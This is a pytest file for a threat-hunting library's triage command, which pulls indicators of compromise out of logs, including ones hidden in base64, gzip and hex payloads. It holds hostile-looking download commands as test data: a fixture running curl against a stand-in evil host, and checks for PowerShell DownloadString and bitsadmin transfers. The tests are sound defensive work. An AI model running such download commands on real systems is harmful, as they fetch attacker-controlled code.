"""The ``python -m msticpy triage`` command."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path


def run(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "msticpy", *args],
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_triage_bundled_sample_text() -> None:
    proc = run("triage")
    assert proc.returncode == 0, proc.stderr
    assert "IoC triage of" in proc.stdout
    assert "ipv4" in proc.stdout and "45.133.1.20" in proc.stdout
    assert "(defanged in source)" in proc.stdout


def test_triage_json_counts() -> None:
    proc = run("triage", "--json", "--top", "50")
    report = json.loads(proc.stdout)
    assert report["cells"] == 22
    ipv4 = {item["value"]: item["count"] for item in report["iocs"]["ipv4"]["top"]}
    assert ipv4["10.20.4.17"] == 6
    assert report["iocs"]["cve"]["distinct"] == 2
    assert {i["value"] for i in report["iocs"]["mitre_attack"]["top"]} >= {"T1059.001"}


def test_triage_finds_iocs_inside_gzip_inside_base64() -> None:
    report = json.loads(run("triage", "--json").stdout)
    hidden = {tuple(item) for item in report["iocs_in_decoded_payloads"]}
    assert ("dns", "stage2.evil-cdn.net") in hidden
    assert ("ipv4", "203.0.113.99") in hidden
    payload = report["payloads"]["top"][0]
    assert payload["type"] == "gz"
    assert payload["name"] == "gzip_file"
    assert "DownloadString" in payload["preview"]
    text = run("triage").stdout
    assert "IoCs found only inside decoded payloads" in text


def test_triage_decodes_hex_payloads() -> None:
    report = json.loads(run("triage", "--json").stdout)
    hidden = {tuple(item) for item in report["iocs_in_decoded_payloads"]}
    assert ("dns", "files.update-check.org") in hidden
    hex_payloads = [p for p in report["payloads"]["top"] if p["encoding"] == "hex"]
    assert [p["preview"][:20] for p in hex_payloads] == ["bitsadmin /transfer "]


def test_triage_csv_column(tmp_path: Path) -> None:
    csv_file = tmp_path / "events.csv"
    csv_file.write_text('id,cmd\n1,"curl http://evil.example.com/x"\n2,ping 8.8.8.8\n')
    proc = run("triage", str(csv_file), "--column", "cmd", "--json", "--progress", "always")
    report = json.loads(proc.stdout)
    assert report["cells"] == 2
    assert report["iocs"]["ipv4"]["top"][0]["value"] == "8.8.8.8"
    assert "%" in proc.stderr  # the progress bar


def test_triage_missing_file() -> None:
    proc = run("triage", "/no/such/file.log")
    assert proc.returncode == 2
    assert "no such file" in proc.stderr


def test_triage_large_csv_column(tmp_path: Path) -> None:
    # More rows than one read chunk: the CSV reader must not ask the text layer for tell().
    path = tmp_path / "big.csv"
    rows = [f"{k},curl http://10.1.{k % 250}.{k % 200 + 1}/x" for k in range(60_000)]
    path.write_text("n,cmd\n" + "\n".join(rows) + "\n", encoding="utf-8")
    report = json.loads(run("triage", str(path), "--column", "cmd", "--json").stdout)
    assert report["cells"] == 60_000
